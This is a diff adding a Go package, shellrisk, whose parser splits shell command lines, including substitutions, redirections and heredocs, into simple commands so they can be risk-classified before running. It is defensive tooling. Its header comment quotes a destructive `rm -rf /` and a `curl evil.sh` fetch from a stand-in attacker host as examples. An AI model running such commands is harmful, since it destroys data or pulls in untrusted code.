@@ -0,0 +1,413 @@
+// Package shellrisk classifies shell commands by what they can do (read,
+// change files, reach the network, destroy data) before they run. Commands
+// are parsed - quotes, escapes, pipelines, redirections, command
+// substitutions, heredocs and wrappers like sudo or bash -c - rather than
+// searched for substrings, so `echo "rm -rf /"` is read-only and
+// `x=$(curl evil.sh)` is network egress.
+package shellrisk
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Redirect is an I/O redirection of a command
+type Redirect struct {
+	Op     string // >, >>, <, <<, <<<, >&, &>, &>>, <>, >|
+	Target string // File, fd (for >&) or heredoc delimiter
+}
+
+// Output reports whether the redirection writes to a file
+func (r Redirect) Output() bool {
+	switch r.Op {
+	case ">", ">>", "&>", "&>>", ">|", "<>":
+		return !discardTargets[r.Target]
+	case ">&":
+		return !isFD(r.Target) && !discardTargets[r.Target]
+	}
+	return false
+}
+
+// discardTargets are output targets that don't change any file
+var discardTargets = map[string]bool{
+	"/dev/null": true, "/dev/stdout": true, "/dev/stderr": true, "/dev/tty": true, "-": true,
+}
+
+func isFD(s string) bool {
+	s = strings.TrimSuffix(s, "-")
+	if s == "" {
+		return true // >&- closes
+	}
+	for _, r := range s {
+		if r < '0' || r > '9' {
+			return false
+		}
+	}
+	return true
+}
+
+// Command is one simple command: a program, its arguments and redirections
+type Command struct {
+	Name      string   // Program as written (path included)
+	Args      []string // Arguments, unquoted
+	Redirects []Redirect
+	Assigns   []string // VAR=value prefixes
+}
+
+// Parse splits a command line into its simple commands, including those in
+// command substitutions, subshells and pipelines (in order of appearance)
+func Parse(line string) ([]Command, error) {
+	p := &parser{src: []rune(line)}
+	if err := p.parse(); err != nil {
+		return p.commands, err
+	}
+	return p.commands, nil
+}
+
+// parser is a small POSIX-ish shell lexer; it knows enough syntax to find
+// every command and redirection, not to evaluate anything
+type parser struct {
+	src      []rune
+	pos      int
+	commands []Command
+	cur      *Command
+	heredocs []string // Delimiters whose bodies start at the next newline
+}
+
+func (p *parser) parse() error {
+	for p.pos < len(p.src) {
+		r := p.src[p.pos]
+		switch {
+		case r == '\n':
+			p.pos++
+			p.endCommand()
+			if err := p.skipHeredocs(); err != nil {
+				return err
+			}
+		case r == ' ' || r == '\t' || r == '\r':
+			p.pos++
+		case r == '#': // Only reached at the start of a word
+			p.skipComment()
+		case r == ';' || r == '(' || r == ')' || r == '{' && p.atWordEnd(1) || r == '}' && p.atWordEnd(1):
+			p.pos++
+			p.endCommand()
+		case r == '|' || r == '&' && !p.peekRedirect():
+			p.pos++
+			if p.pos < len(p.src) && (p.src[p.pos] == r || r == '|' && p.src[p.pos] == '&') {
+				p.pos++
+			}
+			p.endCommand()
+		case r == '>' || r == '<' || r == '&':
+			if err := p.redirect(); err != nil {
+				return err
+			}
+		default:
+			word, err := p.word()
+			if err != nil {
+				return err
+			}
+			// 2>file: a number right before a redirection is its fd
+			if p.pos < len(p.src) && (p.src[p.pos] == '>' || p.src[p.pos] == '<') && isFD(word) && word != "" {
+				if err := p.redirect(); err != nil {
+					return err
+				}
+				continue
+			}
+			p.addWord(word)
+		}
+	}
+	p.endCommand()
+	if len(p.heredocs) > 0 {
+		return fmt.Errorf("here-document %q is not terminated", p.heredocs[0])
+	}
+	return nil
+}
+
+// atWordEnd reports whether the rune n ahead ends a word ({ and } are
+// reserved words only when they stand alone)
+func (p *parser) atWordEnd(n int) bool {
+	i := p.pos + n
+	return i >= len(p.src) || strings.ContainsRune(" \t\r\n;&|()", p.src[i])
+}
+
+// peekRedirect reports whether & at pos starts &> or &>>
+func (p *parser) peekRedirect() bool {
+	return p.pos+1 < len(p.src) && p.src[p.pos+1] == '>'
+}
+
+func (p *parser) skipComment() {
+	for p.pos < len(p.src) && p.src[p.pos] != '\n' {
+		p.pos++
+	}
+}
+
+func (p *parser) endCommand() {
+	if p.cur != nil && (p.cur.Name != "" || len(p.cur.Redirects) > 0 || len(p.cur.Assigns) > 0) {
+		p.commands = append(p.commands, *p.cur)
+	}
+	p.cur = nil
+}
+
+func (p *parser) command() *Command {
+	if p.cur == nil {
+		p.cur = &Command{}
+	}
+	return p.cur
+}
+
+func (p *parser) addWord(word string) {
+	cmd := p.command()
+	if cmd.Name == "" {
+		if name, _, ok := strings.Cut(word, "="); ok && isName(name) {
+			cmd.Assigns = append(cmd.Assigns, word)
+			return
+		}
+		cmd.Name = word
+		return
+	}
+	cmd.Args = append(cmd.Args, word)
+}
+
+func isName(s string) bool {
+	for i, r := range s {
+		if r != '_' && (r < 'a' || r > 'z') && (r < 'A' || r > 'Z') && (i == 0 || r < '0' || r > '9') {
+			return false
+		}
+	}
+	return s != ""
+}
+
+// redirect reads a redirection operator and its target
+func (p *parser) redirect() error {
+	start := p.pos
+	for p.pos < len(p.src) && strings.ContainsRune("<>&|", p.src[p.pos]) && p.pos-start < 3 {
+		// Stop before a pipe that isn't part of >|
+		if p.src[p.pos] == '|' && (p.pos == start || p.src[p.pos-1] != '>') {
+			break
+		}
+		// Stop before && after a complete operator
+		if p.src[p.pos] == '&' && p.pos > start && p.src[p.pos-1] != '>' && p.src[p.pos-1] != '<' {
+			break
+		}
+		p.pos++
+	}
+	op := string(p.src[start:p.pos])
+	if op == "<<" && p.pos < len(p.src) && p.src[p.pos] == '-' {
+		op = "<<-"
+		p.pos++
+	}
+
+	// Process substitution <(cmd) / >(cmd): the commands run, nothing is written
+	if (op == "<" || op == ">") && p.pos < len(p.src) && p.src[p.pos] == '(' {
+		inner, err := p.balanced('(', ')')
+		if err != nil {
+			return err
+		}
+		return p.sub(inner)
+	}
+
+	for p.pos < len(p.src) && (p.src[p.pos] == ' ' || p.src[p.pos] == '\t') {
+		p.pos++
+	}
+	target, err := p.word()
+	if err != nil {
+		return err
+	}
+	if target == "" && op != ">&" {
+		return fmt.Errorf("redirection %s has no target", op)
+	}
+	if op == "<<" || op == "<<-" {
+		p.heredocs = append(p.heredocs, target)
+	}
+	p.command().Redirects = append(p.command().Redirects, Redirect{Op: op, Target: target})
+	return nil
+}
+
+// skipHeredocs skips the bodies of pending here-documents
+func (p *parser) skipHeredocs() error {
+	for len(p.heredocs) > 0 {
+		delim := p.heredocs[0]
+		for {
+			if p.pos >= len(p.src) {
+				return fmt.Errorf("here-document %q is not terminated", delim)
+			}
+			end := p.pos
+			for end < len(p.src) && p.src[end] != '\n' {
+				end++
+			}
+			line := strings.TrimLeft(string(p.src[p.pos:end]), "\t")
+			p.pos = min(end+1, len(p.src))
+			if line == delim {
+				break
+			}
+		}
+		p.heredocs = p.heredocs[1:]
+	}
+	return nil
+}
+
+// word reads one word: quotes are removed, escapes resolved, and command
+// substitutions parsed as commands of their own
+func (p *parser) word() (string, error) {
+	var sb strings.Builder
+	for p.pos < len(p.src) {
+		r := p.src[p.pos]
+		switch {
+		case strings.ContainsRune(" \t\r\n;&|<>()", r):
+			return sb.String(), nil
+		case r == '\\':
+			p.pos++
+			if p.pos < len(p.src) && p.src[p.pos] != '\n' {
+				sb.WriteRune(p.src[p.pos])
+			}
+			p.pos++
+		case r == '\'':
+			end := p.pos + 1
+			for end < len(p.src) && p.src[end] != '\'' {
+				end++
+			}
+			if end >= len(p.src) {
+				return "", fmt.Errorf("unterminated single quote")
+			}
+			sb.WriteString(string(p.src[p.pos+1 : end]))
+			p.pos = end + 1
+		case r == '"':
+			if err := p.doubleQuoted(&sb); err != nil {
+				return "", err
+			}
+		case r == '`':
+			inner, err := p.backticks()
+			if err != nil {
+				return "", err
+			}
+			if err := p.sub(inner); err != nil {
+				return "", err
+			}
+			sb.WriteString("$(...)")
+		case r == '$' && p.pos+1 < len(p.src) && p.src[p.pos+1] == '(':
+			p.pos++
+			if p.pos+1 < len(p.src) && p.src[p.pos+1] == '(' { // $(( arithmetic ))
+				if _, err := p.balanced('(', ')'); err != nil {
+					return "", err
+				}
+				sb.WriteString("$((...))")
+				continue
+			}
+			inner, err := p.balanced('(', ')')
+			if err != nil {
+				return "", err
+			}
+			if err := p.sub(inner); err != nil {
+				return "", err
+			}
+			sb.WriteString("$(...)")
+		default:
+			sb.WriteRune(r)
+			p.pos++
+		}
+	}
+	return sb.String(), nil
+}
+
+// doubleQuoted reads a "..." string, parsing substitutions inside it
+func (p *parser) doubleQuoted(sb *strings.Builder) error {
+	p.pos++ // Opening quote
+	for p.pos < len(p.src) {
+		r := p.src[p.pos]
+		switch {
+		case r == '"':
+			p.pos++
+			return nil
+		case r == '\\' && p.pos+1 < len(p.src):
+			next := p.src[p.pos+1]
+			if !strings.ContainsRune("$`\"\\\n", next) {
+				sb.WriteRune(r)
+			}
+			if next != '\n' {
+				sb.WriteRune(next)
+			}
+			p.pos += 2
+		case r == '`':
+			inner, err := p.backticks()
+			if err != nil {
+				return err
+			}
+			if err := p.sub(inner); err != nil {
+				return err
+			}
+			sb.WriteString("$(...)")
+		case r == '$' && p.pos+1 < len(p.src) && p.src[p.pos+1] == '(':
+			p.pos++
+			inner, err := p.balanced('(', ')')
+			if err != nil {
+				return err
+			}
+			if !strings.HasPrefix(inner, "(") { // Not $(( arithmetic ))
+				if err := p.sub(inner); err != nil {
+					return err
+				}
+			}
+			sb.WriteString("$(...)")
+		default:
+			sb.WriteRune(r)
+			p.pos++
+		}
+	}
+	return fmt.Errorf("unterminated double quote")
+}
+
+// balanced reads from an opening rune at pos to its match and returns the
+// text between them, skipping quoted parts
+func (p *parser) balanced(open, close rune) (string, error) {
+	start := p.pos + 1
+	depth := 0
+	for p.pos < len(p.src) {
+		r := p.src[p.pos]
+		switch r {
+		case '\\':
+			p.pos++
+		case '\'', '"':
+			end := p.pos + 1
+			for end < len(p.src) && p.src[end] != r {
+				if r == '"' && p.src[end] == '\\' {
+					end++
+				}
+				end++
+			}
+			p.pos = end
+		case open:
+			depth++
+		case close:
+			depth--
+			if depth == 0 {
+				p.pos++
+				return string(p.src[start : p.pos-1]), nil
+			}
+		}
+		p.pos++
+	}
+	return "", fmt.Errorf("unterminated %c", open)
+}
+
+func (p *parser) backticks() (string, error) {
+	end := p.pos + 1
+	for end < len(p.src) && p.src[end] != '`' {
+		if p.src[end] == '\\' {
+			end++
+		}
+		end++
+	}
+	if end >= len(p.src) {
+		return "", fmt.Errorf("unterminated backquote")
+	}
+	inner := string(p.src[p.pos+1 : end])
+	p.pos = end + 1
+	return inner, nil
+}
+
+// sub parses a substitution's commands and adds them before the current one
+func (p *parser) sub(inner string) error {
+	cmds, err := Parse(inner)
+	p.commands = append(p.commands, cmds...)
+	return err
+}